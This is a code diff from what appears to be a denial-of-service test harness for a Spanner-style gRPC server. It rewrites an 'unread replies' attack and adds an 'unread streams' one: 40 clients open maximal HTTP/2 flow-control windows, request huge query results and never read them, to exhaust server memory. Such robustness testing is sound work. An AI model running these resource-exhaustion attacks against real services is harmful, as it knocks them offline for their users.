@@ -27,7 +27,8 @@ MEBIBYTE = 1 << 20
 QUERY = SPANNER + "ExecuteSql"
 STREAMING = SPANNER + "ExecuteStreamingSql"
 COMMIT = SPANNER + "Commit"
-SESSION = SPANNER + "GetSession"
+LARGE_ROWS = "SELECT REPEAT('x', 100000) FROM UNNEST(GENERATE_ARRAY(1, 800))"
+LARGE_CELL = "SELECT ARRAY(SELECT REPEAT('x', 100000) FROM UNNEST(GENERATE_ARRAY(1, 80)))"
 
 
 def _open_streams(client: Harmful, count: int = STREAMS, start: int = 0) -> None:
@@ -173,19 +174,28 @@ def unread_heads(target: Target, goes_on: Until) -> None:
                 number += 1
 
 
-def unread_replies(target: Target, goes_on: Until) -> None:
-    """Have 40 clients ask for large replies, and never read."""
-    message = target.sql("SELECT REPEAT('x', 8000000)")
-    with ExitStack() as stack:
-        clients = [stack.enter_context(harmful(target)) for _ in range(40)]
-        number = 0
-        while goes_on():
+def _unread(path: str, statement: str) -> Attack:
+    """Return the attack of 40 clients that ask for large replies, and never read."""
+
+    def attack(target: Target, goes_on: Until) -> None:
+        message = target.sql(statement)
+        with ExitStack() as stack:
+            clients = [
+                stack.enter_context(harmful(target, initial_window_size=WINDOW_MAX))
+                for _ in range(40)
+            ]
             for client in clients:
-                try:
-                    client.send_some(request(2 * number + 1, STREAMING, message))
-                except OSError:
-                    continue
-            number += 1
+                client.send(frames.window_update(0, WINDOW_MAX - frames.WINDOW_DEFAULT))
+            number = 0
+            while goes_on():
+                for client in clients:
+                    try:
+                        client.send_some(request(2 * number + 1, path, message), 0.05)
+                    except OSError:
+                        continue
+                number += 1
+
+    return attack
 
 
 def large_metadata(target: Target, goes_on: Until) -> None:
@@ -312,7 +322,8 @@ ATTACKS: Mapping[str, Attack] = {
     "reflection of everything": reflection_of_everything,
     "refused data": refused_data,
     "unread heads": unread_heads,
-    "unread replies": unread_replies,
+    "unread replies": _unread(QUERY, LARGE_CELL),
+    "unread streams": _unread(STREAMING, LARGE_ROWS),
     "large metadata": large_metadata,
     "bombs for queries": _bombs(QUERY),
     "bombs for commits": _bombs(COMMIT),
